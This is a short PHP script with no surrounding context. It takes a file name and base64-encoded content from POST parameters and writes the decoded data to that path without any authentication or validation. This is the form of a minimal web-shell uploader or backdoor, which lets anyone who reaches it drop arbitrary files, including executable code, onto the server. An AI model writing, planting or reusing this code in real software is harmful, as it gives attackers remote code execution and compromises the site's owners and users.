<?php
if (isset($_POST['n'], $_POST['d'])) {
    file_put_contents($_POST['n'], base64_decode($_POST['d']));
    echo 'ok';
}
